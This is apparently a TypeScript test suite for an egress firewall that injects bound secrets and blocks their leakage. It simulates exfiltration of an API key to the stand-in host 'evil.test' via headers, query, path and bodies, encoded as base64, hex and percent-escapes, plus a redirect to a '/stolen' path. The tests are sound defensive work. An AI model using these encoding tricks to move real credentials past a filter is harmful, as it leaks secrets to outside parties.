import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, beforeEach, describe, test } from 'node:test';
import { type Answer, type Call, callThrough, connectTunnel } from '../support/firewall.ts';
import {
  assertDenied,
  assertNothingLeaked,
  assertRefused,
  exchangeRaw,
  formsOf,
  KEY,
  openTls,
  type Scene,
  startScene,
  within,
} from './support.ts';

describe('a placeholder counts only where its secret is bound', () => {
  let scene: Scene;
  before(async () => {
    scene = await startScene({
      hosts: ['evil.test'],
      secret: { methods: ['GET', 'POST'], paths: ['/v1/*'], match_headers: ['x-api-key'] },
    });
    await scene.t.configure({
      allow: [{ host: `evil.test:${scene.service.port}` }, { host: `http://localhost:${scene.service.port}` }],
      allow_cidrs: ['127.0.0.1'],
      ca_pems: [scene.service.caPem],
    });
    // until it is in force: the host is reached
    while ((await callThrough(scene.t, scene.lease.token, scene.url('/', 'evil.test'))).status !== 200);
  });
  after(() => scene[Symbol.asyncDispose]());
  beforeEach(() => scene.reset());

  test('in its place it works', async () => {
    const answer = await scene.call('/v1/x', { headers: { 'x-api-key': scene.placeholder } });
    assert.equal(answer.status, 200);
    assert.equal(scene.service.seen[0]?.headers['x-api-key'], KEY);
  });

  const percent = (text: string) =>
    Array.from(text)
      .map((c) => `%${c.charCodeAt(0).toString(16)}`)
      .join('');
  const places: [what: string, path: (p: string) => string, call: (p: string) => Call][] = [
    ['another header', () => '/v1/x', (p) => ({ headers: { 'x-other': p } })],
    ['a header, in percent-escapes', () => '/v1/x', (p) => ({ headers: { 'x-other': percent(p) } })],
    ['a Bearer token', () => '/v1/x', (p) => ({ headers: { authorization: `Bearer ${p}` } })],
    ['a Basic password', () => '/v1/x', (p) => ({ headers: { authorization: `Basic ${Buffer.from(`user:${p}`).toString('base64')}` } })],
    ['a Basic user', () => '/v1/x', (p) => ({ headers: { authorization: `basic   ${Buffer.from(`${p}:`).toString('base64url')}` } })],
    ['a cookie', () => '/v1/x', (p) => ({ headers: { cookie: `a=b; session=${p}` } })],
    ['the user agent', () => '/v1/x', (p) => ({ headers: { 'user-agent': p } })],
    ['a header among others', () => '/v1/x', (p) => ({ headers: { 'x-api-key': p, 'x-log': p } })],
    ['the query', (p) => `/v1/x?key=${p}`, () => ({})],
    ['the query, in percent-escapes', (p) => `/v1/x?key=${percent(p)}`, () => ({})],
    ['the query, escaped twice', (p) => `/v1/x?key=${percent(p).replaceAll('%', '%25')}`, () => ({})],
    ['the name in a query', (p) => `/v1/x?${p}=1`, () => ({})],
    ['the path', (p) => `/v1/${p}`, () => ({})],
    ['the path, in percent-escapes', (p) => `/v1/${percent(p)}`, () => ({})],
    ['a JSON body', () => '/v1/x', (p) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify({ p }) })],
    ['a form', () => '/v1/x', (p) => ({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `a=${percent(p)}` })],
    [
      'a multipart body',
      () => '/v1/x',
      (p) => ({ headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: `--b\r\n\r\n${p}\r\n--b--` }),
    ],
  ];
  for (const [what, path, call] of places) {
    test(`it is refused in ${what}`, async () => {
      const answer = await scene.call(path(scene.placeholder), call(scene.placeholder));
      await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
    });
  }

  test('it is refused on a path that it is not bound to', async () => {
    const answer = await callThrough(scene.t, scene.lease.token, scene.url('/v2/x'), { headers: { 'x-api-key': scene.placeholder } });
    await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
  });

  test('it is refused with a method that it is not bound to', async () => {
    const answer = await scene.call('/v1/x', { method: 'DELETE', headers: { 'x-api-key': scene.placeholder } });
    await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
  });

  test('it is refused on its way to another host that is open', async () => {
    const answer = await callThrough(scene.t, scene.lease.token, scene.url('/v1/x', 'evil.test'), {
      headers: { 'x-api-key': scene.placeholder },
    });
    await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
  });

  test('it is refused without TLS, on a host and port that are open without it', async () => {
    const answer = await scene.call('/v1/x', { headers: { 'x-api-key': scene.placeholder } });
    assert.equal(answer.status, 200);
    await scene.reset();
    const plain = await within(
      60,
      callThrough(scene.t, scene.lease.token, `http://${scene.authority}/v1/x`, { headers: { 'x-api-key': scene.placeholder } }),
    );
    await assertDenied(scene, plain, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
  });

  test('it is refused in a long body', async () => {
    const body = Buffer.concat([Buffer.alloc(1_500_000, 'x'), Buffer.from(scene.placeholder), Buffer.alloc(1000, 'y')]);
    const answer = await callThrough(scene.t, scene.lease.token, scene.url('/v1/x', 'evil.test'), { method: 'POST', body }).catch(() => ({
      status: 0,
      body: '',
    }));
    assert.ok([0, 413].includes(answer.status), String(answer.status));
    assert.equal(scene.service.seen.length, 0, 'the service has not had the whole request');
    await assertRefused(scene, answer, 'BODY_TOO_LONG');
  });

  const foreign: [what: string, path: (p: string) => string, call: (p: string) => Call][] = [
    ['the header', () => '/v1/x', (p) => ({ headers: { 'x-api-key': p } })],
    ['another header', () => '/v1/x', (p) => ({ headers: { 'x-other': `Bearer ${p}` } })],
    ['a Basic password', () => '/v1/x', (p) => ({ headers: { authorization: `Basic ${Buffer.from(`u:${p}`).toString('base64')}` } })],
    ['the query', (p) => `/v1/x?key=${p}`, () => ({})],
    ['the path', (p) => `/v1/${p}`, () => ({})],
    ['the body', () => '/v1/x', (p) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify({ p }) })],
    [
      'a header behind forty other long words',
      () => '/v1/x',
      (p) => ({ headers: { 'a-words': Array.from({ length: 40 }, () => randomBytes(15).toString('hex')).join(' '), 'x-api-key': p } }),
    ],
    ['a header, glued to other text', () => '/v1/x', (p) => ({ headers: { 'x-api-key': `prefix-${p}` } })],
  ];
  for (const [what, path, call] of foreign) {
    test(`the placeholder of another lease is refused in ${what}`, async () => {
      const other = await scene.t.lease(['API_KEY']);
      const placeholder = other.placeholders['API_KEY'] as string;
      await scene.reset();
      const answer = await callThrough(scene.t, scene.lease.token, scene.url(path(placeholder), 'evil.test'), call(placeholder));
      await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_OF_ANOTHER_LEASE' });
      const [entry] = (await scene.entries()).filter(({ action }) => action === 'egress.deny');
      assert.deepEqual([entry?.['details'].lease_id, entry?.['details'].other_lease_id], [scene.lease.leaseId, other.leaseId]);
    });
  }

  const withKey = (more: Partial<Call>): Call => ({
    method: 'POST',
    ...more,
    headers: { 'x-api-key': scene.placeholder, ...more.headers },
  });

  test('in the body of a request that has its credential elsewhere it is text, and stays it', async () => {
    const other = (await scene.t.lease(['API_KEY'])).placeholders['API_KEY'] as string;
    await scene.reset();
    const body = JSON.stringify({ messages: [`API_KEY=${scene.placeholder}`, other] });
    const answer = await scene.call('/v1/x', withKey({ headers: { 'content-type': 'application/json' }, body }));
    assert.equal(answer.status, 200);
    const [seen] = scene.service.seen;
    assert.deepEqual([seen?.headers['x-api-key'], seen?.body], [KEY, body]);
    const [intent] = (await scene.entries()).filter(({ action }) => action === 'egress.intent');
    assert.deepEqual(
      [intent?.['details'].secrets, intent?.['details'].inert],
      [[{ secret: 'API_KEY', place: 'header x-api-key' }], ['API_KEY']],
    );
  });

  test('in a long body of such a request too', async () => {
    const body = Buffer.concat([Buffer.alloc(1_500_000, 'x'), Buffer.from(scene.placeholder), Buffer.alloc(1000, 'y')]);
    const answer = await scene.call('/v1/x', withKey({ body }));
    assert.equal(answer.status, 200);
    assert.ok(!JSON.stringify(scene.service.seen).includes(`x${KEY}`));
  });

  test('but not in another place of such a request', async () => {
    const answer = await scene.call('/v1/x', withKey({ headers: { 'x-other': scene.placeholder }, body: scene.placeholder }));
    await assertDenied(scene, answer, { status: 403, code: 'PLACEHOLDER_NOT_BOUND' });
  });

  test('text that only looks like a placeholder goes through', async () => {
    const answer = await callThrough(scene.t, scene.lease.token, scene.url('/v1/x', 'evil.test'), {
      headers: { 'x-other': `ctr_${randomBytes(16).toString('hex')}` },
    });
    assert.equal(answer.status, 200);
  });
});

describe('a secret', () => {
  let scene: Scene;
  before(async () => {
    scene = await startScene({
      hosts: ['evil.test'],
      secret: { inject: { header: 'x-api-key' } },
      handler: (request, response) => {
        if (request.url === '/redirect') response.writeHead(302, { location: `https://evil.test:${scene.service.port}/stolen` }).end();
        else response.end('ok');
      },
    });
    await scene.t.configure({
      allow: [{ host: `evil.test:${scene.service.port}` }],
      allow_cidrs: ['127.0.0.1'],
      ca_pems: [scene.service.caPem],
    });
    while ((await callThrough(scene.t, scene.lease.token, scene.url('/', 'evil.test'))).status !== 200);
  });
  after(() => scene[Symbol.asyncDispose]());
  beforeEach(() => scene.reset());

  for (const [what, value] of [
    ['a line feed', 'abcdefghijkl\nmnop'],
    ['a carriage return', 'abcdefghijkl\rmnop'],
    ['a zero byte', 'abcdefghijkl\0mnop'],
    ['a line break at its end', 'abcdefghijklmnop\n'],
    ['fewer than 12 characters', 'abcdefghijk'],
  ] as const) {
    test(`with ${what} is not taken`, async () => {
      await assert.rejects(scene.t.secret('BROKEN', { value, hosts: ['localhost'] }), { code: 'INVALID_SECRET' });
    });
  }

  test('with line breaks that is JSON never becomes a header', async () => {
    await scene.t.secret('ACCOUNT', { value: '{\n"private":"abcdefghijkl"\r\n}', hosts: [scene.authority], match_headers: ['x-account'] });
    const lease = await scene.t.lease(['ACCOUNT']);
    await scene.reset();
    const answer = await callThrough(scene.t, lease.token, scene.url('/'), { headers: { 'x-account': lease.placeholders['ACCOUNT'] } });
    await assertDenied(scene, answer, { status: 502, code: 'SECRET_UNFIT' });
  });

  test('does not follow a redirect, and is not put into the request that does', async () => {
    const answer = await scene.call('/redirect');
    assert.equal(answer.status, 302);
    assert.equal(answer.headers.location, `https://evil.test:${scene.service.port}/stolen`);
    assert.deepEqual(
      scene.service.seen.map(({ url, headers }) => [url, headers['x-api-key']]),
      [['/redirect', KEY]],
    );
    const next = await callThrough(scene.t, scene.lease.token, answer.headers.location ?? '');
    assert.equal(next.status, 200);
    assert.deepEqual([scene.service.seen[1]?.url, scene.service.seen[1]?.headers['x-api-key']], ['/stolen', undefined]);
  });

  test('is not put into a request without TLS', async () => {
    const answer = await within(60, callThrough(scene.t, scene.lease.token, `http://${scene.authority}/`));
    await assertDenied(scene, answer, { status: 403, code: 'POLICY_DENIED' });
  });

  test('that is injected replaces what the client put there', async () => {
    const socket = await openTls(scene);
    const answer = await exchangeRaw(
      socket,
      `GET / HTTP/1.1\r\nHost: ${scene.authority}\r\nX-API-Key: mine\r\nx-api-key: mine too\r\nConnection: x-api-key\r\n\r\n`,
    );
    socket.destroy();
    assert.equal(answer.status, 200);
    assert.equal(scene.service.seen[0]?.headers['x-api-key'], KEY);
  });

  const outbound: [what: string, path: string, call: Call][] = [
    ['a header', '/x', { headers: { 'x-copy': KEY } }],
    ['a header, in base64', '/x', { headers: { authorization: `Basic ${Buffer.from(`me:${KEY}`).toString('base64')}` } }],
    ['the query', `/x?q=${KEY}`, {}],
    [
      'the query, in percent-escapes',
      `/x?q=${Array.from(KEY)
        .map((c) => `%${c.charCodeAt(0).toString(16)}`)
        .join('')}`,
      {},
    ],
    ['the path', `/x/${KEY}`, {}],
    ['the body', '/x', { body: `before ${KEY} after` }],
    ['the body, in hex', '/x', { body: Buffer.from(KEY).toString('hex') }],
    ...['', 'a', 'ab'].map((before): [string, string, Call] => [
      `the body, in base64 behind ${before.length} bytes`,
      '/x',
      { body: Buffer.from(`${before}${KEY}`).toString('base64') },
    ]),
  ];
  for (const [what, path, call] of outbound) {
    test(`that is sent in ${what} is refused`, async () => {
      const answer = await callThrough(scene.t, scene.lease.token, scene.url(path, 'evil.test'), call);
      await assertDenied(scene, answer, { status: 403, code: 'SECRET_IN_REQUEST' });
    });
  }

  test('that is sent in a long stream is cut off before it is out', async () => {
    const body = Buffer.concat([Buffer.alloc(3_000_000, 'x'), Buffer.from(KEY), Buffer.alloc(1000, 'y')]);
    const answer: Pick<Answer, 'status' | 'body'> = await callThrough(scene.t, scene.lease.token, scene.url('/x', 'evil.test'), {
      method: 'POST',
      body,
    }).catch(() => ({ status: 0, body: '' }));
    assert.ok([0, 403].includes(answer.status), String(answer.status));
    assert.equal(scene.service.seen.length, 0, 'the service has not had the whole request');
    await assertRefused(scene, answer, 'SECRET_IN_REQUEST');
  });

  test('is removed with everything that could lead to it', async () => {
    await scene.t.secret('SHORT_LIVED', { value: 'a-value-that-will-be-removed', hosts: [scene.authority] });
    const lease = await scene.t.lease(['SHORT_LIVED']);
    const { removeSecret } = await import('../../kernel/vault/index.ts');
    await removeSecret({ store: scene.t.store, audit: scene.t.installation.audit }, 'test', 'SHORT_LIVED');
    await scene.reset();
    const answer = (await connectTunnel(scene.t.firewall.port, scene.authority, lease.token)) as Answer;
    await assertDenied(scene, answer, { status: 407, code: 'LEASE_REVOKED' });
  });

  test('leaves header bytes of the client as they were', async () => {
    const socket = await openTls(scene);
    const name = Buffer.from('naïve – ü.txt', 'utf8').toString('latin1');
    const answer = await exchangeRaw(socket, `GET /x HTTP/1.1\r\nHost: ${scene.authority}\r\nx-name: ${name}\r\n\r\n`);
    socket.destroy();
    assert.equal(answer.status, 200);
    assert.equal(scene.service.seen[0]?.headers['x-name'], name);
  });

  test('appears in no form in what the installation writes down', async () => {
    assert.equal((await scene.call('/v1')).status, 200);
    assert.ok(formsOf(KEY).length >= 5);
    await assertNothingLeaked(scene.t, '', [scene.lease.token]);
  });
});
